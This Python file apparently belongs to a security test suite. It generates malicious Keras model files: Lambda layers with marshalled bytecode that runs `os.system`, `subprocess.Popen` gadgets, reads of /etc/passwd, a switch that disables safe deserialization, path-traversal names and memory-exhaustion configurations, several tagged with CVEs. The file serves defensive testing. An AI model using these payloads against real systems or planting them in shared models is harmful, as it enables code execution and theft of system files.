"""Attacks by what a configuration asks Keras to make.

In: an empty folder. Out: a hostile file, mostly `.keras`. The invariant: the weights in it are
those of an innocent model.
"""

from __future__ import annotations

import base64
import json
import marshal
from pathlib import Path
from typing import Any

import h5py
import keras

from attacks.kinds import archive, attack, innocent, members_of, shell, with_config


def _first(config: dict[str, Any]) -> dict[str, Any]:
    """The layer `first`."""
    return next(x for x in config["config"]["layers"] if x["config"].get("name") == "first")


def _byte_code(folder: Path) -> str:
    code = compile(f"__import__('os').system({shell(folder)!r})", "attack", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def _function(module: str, name: str, registered: str = "function") -> dict[str, str]:
    return {"module": module, "class_name": "function", "config": name,
            "registered_name": registered}  # fmt: skip


def _lambda(folder: Path) -> dict[str, Any]:
    code = {"code": _byte_code(folder), "defaults": None, "closure": None}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "sly", "function": {"class_name": "__lambda__", "config": code},
                   "arguments": {}},
        "registered_name": None,
    }  # fmt: skip


def _with_layer(folder: Path, layer: dict[str, Any]) -> Path:
    return with_config(folder, lambda config: config["config"]["layers"].append(layer))


def _with_first(folder: Path, **arguments: Any) -> Path:
    return with_config(folder, lambda config: _first(config)["config"].update(arguments))


@attack("layer 'sly'")
def lambda_with_byte_code(folder: Path) -> Path:  # CVE-2024-3660
    return _with_layer(folder, _lambda(folder))


@attack("layer 'sly'")
def lambda_with_byte_code_in_a_nested_model(folder: Path) -> Path:
    inner = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "inner", "layers": [_lambda(folder)]}}  # fmt: skip
    return _with_layer(folder, inner)


@attack("layer 'sly'")
def lambda_with_byte_code_in_a_wrapper(folder: Path) -> Path:
    outer = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
             "config": {"name": "outer", "layer": _lambda(folder)}}  # fmt: skip
    return _with_layer(folder, outer)


@attack("layer 'first'")
def byte_code_as_activation(folder: Path) -> Path:
    code = {"code": _byte_code(folder), "defaults": None, "closure": None}
    return _with_first(folder, activation={"class_name": "__lambda__", "config": code})


@attack("layer 'sly'")
def lambda_with_byte_code_in_hdf5(folder: Path) -> Path:  # CVE-2025-9905
    path = innocent(folder / "model.h5")
    with h5py.File(path, "a") as file:
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"].append(_lambda(folder))
        file.attrs["model_config"] = json.dumps(config)
    return path


def _in_keras_2(folder: Path, **arguments: Any) -> Path:
    path = innocent(folder / "model.h5")
    layer = {"class_name": "Lambda", "config": {"name": "sly", "arguments": {}, **arguments}}
    with h5py.File(path, "a") as file:
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"].append(layer)
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.4.0"
    return path


@attack("layer 'sly'")
def lambda_of_keras_2_with_byte_code(folder: Path) -> Path:
    code = [_byte_code(folder), None, None]
    return _in_keras_2(folder, function=code, function_type="lambda")


@attack("layer 'sly'")
def lambda_of_keras_2_whose_output_shape_is_byte_code(folder: Path) -> Path:
    code = [_byte_code(folder), None, None]
    return _in_keras_2(folder, function="relu", function_type="function", output_shape=code,
                       output_shape_type="lambda")  # fmt: skip


@attack("os.system")
def gadget_by_module(folder: Path) -> Path:  # CVE-2025-1550
    layer = _lambda(folder)
    layer["config"].update(function=_function("os", "system"), arguments={"command": "true"})
    return _with_layer(folder, layer)


@attack("layer 'sly' (Popen) is subprocess.Popen")
def gadget_class_by_module(folder: Path) -> Path:
    arguments = {"name": "sly", "args": shell(folder), "shell": True}
    return _with_layer(folder, {"module": "subprocess", "class_name": "Popen",
                                "config": arguments, "registered_name": None})  # fmt: skip


@attack("keras.utils.get_file")
def gadget_of_keras_that_fetches_files(folder: Path) -> Path:  # CVE-2025-8747
    layer = _lambda(folder)
    layer["config"].update(function=_function("keras.utils", "get_file"),
                           arguments={"origin": "file:///etc/passwd", "fname": "x"})  # fmt: skip
    return _with_layer(folder, layer)


@attack("keras.config.enable_unsafe_deserialization")
def gadget_of_keras_that_switches_safety_off(folder: Path) -> Path:  # CVE-2025-9906
    gadget = _function("keras.config", "enable_unsafe_deserialization")
    return _with_first(folder, activation=gadget)


@attack("'sly>Gadget'")
def gadget_by_registered_name(folder: Path) -> Path:
    return with_config(folder, lambda c: _first(c).update(registered_name="sly>Gadget"))


@attack("'sly>gadget'")
def gadget_function_by_registered_name(folder: Path) -> Path:
    return _with_first(folder, activation=_function("builtins", "relu", "sly>gadget"))


@attack("layer 'first' (Popen)")
def gadget_as_initializer(folder: Path) -> Path:
    gadget = {"module": "subprocess", "class_name": "Popen", "config": {"args": shell(folder)},
              "registered_name": None}  # fmt: skip
    return _with_first(folder, kernel_initializer=gadget)


@attack("layer 'first' (__typespec__) names the type os.system")
def gadget_as_type(folder: Path) -> Path:
    gadget = {"class_name": "__typespec__", "spec_name": "system", "module": "os",
              "registered_name": None, "config": [shell(folder)]}  # fmt: skip
    return _with_first(folder, activation=gadget)


@attack("keras.src.saving.saving_api.load_model")
def gadget_in_a_private_module_of_keras(folder: Path) -> Path:
    gadget = _function("keras.src.saving.saving_api", "load_model")
    return _with_first(folder, activation=gadget)


@attack("keras.losses.deserialize")
def function_of_keras_that_makes_objects(folder: Path) -> Path:
    layer = _lambda(folder)
    layer["config"]["function"] = _function("keras.losses", "deserialize")
    return _with_layer(folder, layer)


@attack("layer 'sly' (TorchModuleWrapper)")
def torch_module(folder: Path) -> Path:  # CVE-2025-49655
    return _with_layer(folder, {
        "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
        "config": {"name": "sly", "module": {"class_name": "__bytes__", "config": {"value": "x"}}},
    })  # fmt: skip


@attack("layer 'sly' (TFSMLayer)")
def saved_model_from_a_path(folder: Path) -> Path:  # CVE-2026-1462
    return _with_layer(folder, {
        "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
        "config": {"name": "sly", "filepath": "/srv/models/1", "call_endpoint": "serve"},
    })  # fmt: skip


def _lookup(name: str, **arguments: Any) -> dict[str, Any]:
    config = {"name": "sly", "max_tokens": None, "vocabulary": "/etc/passwd", **arguments}
    return {"module": "keras.layers", "class_name": name, "registered_name": None,
            "config": config}  # fmt: skip


@attack("layer 'sly' (StringLookup) reads its vocabulary from the file '/etc/passwd'")
def vocabulary_from_a_path(folder: Path) -> Path:  # CVE-2025-12058
    return _with_layer(folder, _lookup("StringLookup"))


@attack("layer 'sly' (TextVectorization) reads its vocabulary")
def vocabulary_of_texts_from_a_path(folder: Path) -> Path:
    return _with_layer(folder, _lookup("TextVectorization"))


@attack("layer 'first' asks for a weight of shape (3, 1000000000)")
def more_units_than_memory(folder: Path) -> Path:  # CVE-2026-0897
    return _with_first(folder, units=1_000_000_000)


@attack("layer 'first' (Dense) has the absurd size units=1000000000000000")
def more_units_than_an_address_space(folder: Path) -> Path:
    return _with_first(folder, units=10**15)


@attack("has the absurd shape")
def absurd_input(folder: Path) -> Path:
    def change(config: dict[str, Any]) -> None:
        config["config"]["layers"][0]["config"]["batch_shape"] = [None, 10**9, 10**9]

    return with_config(folder, change)


def _operation(module: str, name: str, **arguments: Any) -> dict[str, Any]:
    return {"module": f"keras.src.ops.{module}", "class_name": name, "registered_name": None,
            "config": {"name": "sly", **arguments}}  # fmt: skip


@attack("layer 'sly' (Split) has the absurd number indices_or_sections=100000000")
def one_tensor_for_each_number(folder: Path) -> Path:
    return _with_layer(folder, _operation("numpy", "Split", indices_or_sections=10**8, axis=-1))


@attack("layer 'sly' (Unstack) has the absurd number num=100000000")
def one_tensor_for_each_row(folder: Path) -> Path:
    return _with_layer(folder, _operation("core", "Unstack", num=10**8, axis=-1))


@attack("layer 'sly' (TextVectorization) has the absurd number ngrams=1000000000")
def texts_of_a_billion_words(folder: Path) -> Path:
    return _with_layer(folder, _lookup("TextVectorization", vocabulary=["a"], ngrams=10**9))


@attack("layer 'sly' (StringLookup) has the absurd number num_oov_indices=1000000000")
def a_billion_words_that_are_unknown(folder: Path) -> Path:
    return _with_layer(folder, _lookup("StringLookup", vocabulary=["a"], num_oov_indices=10**9))


@attack("(__numpy__) has the absurd dtype 'V2000000000'")
def array_of_large_elements(folder: Path) -> Path:
    array = {"class_name": "__numpy__", "config": {"value": [1, 2, 3], "dtype": "V2000000000"}}
    return _with_first(folder, bias_regularizer=array)


@attack("gru' is unrolled over 1000000 steps")
def network_unrolled_over_a_million_steps(folder: Path) -> Path:
    x = keras.Input((10**6, 1), name="x")
    y = keras.layers.Bidirectional(keras.layers.GRU(1, unroll=True), name="sly")
    path = folder / "model.keras"
    keras.Model(x, y(x)).save(path)
    return path


@attack("has a name that leaves its folder")
def name_that_leaves_the_folder(folder: Path) -> Path:  # CVE-2026-12479
    return _with_first(folder, name="../../outside")


@attack("has a name that is an absolute path")
def name_that_is_an_absolute_path(folder: Path) -> Path:
    return _with_first(folder, name=str(folder / "outside"))


@attack("has a name that holds control characters")
def name_with_a_null(folder: Path) -> Path:
    return _with_first(folder, name="first\0second")


@attack("has a name that has 100000 characters")
def name_without_end(folder: Path) -> Path:
    return _with_first(folder, name="x" * 100_000)


@attack("layer 'first' (Popen)")
def compile_configuration_is_no_place_either(folder: Path) -> Path:
    """What is left out of the configuration is not what is refused."""
    path = _with_first(folder, bias_initializer={
        "module": "subprocess", "class_name": "Popen", "config": {"args": shell(folder)},
        "registered_name": "Popen"})  # fmt: skip
    members = members_of(path)
    config = json.loads(members["config.json"])
    config["compile_config"] = {"optimizer": {"module": "os", "class_name": "system", "config": {}}}
    return archive(path, {**members, "config.json": json.dumps(config).encode()})
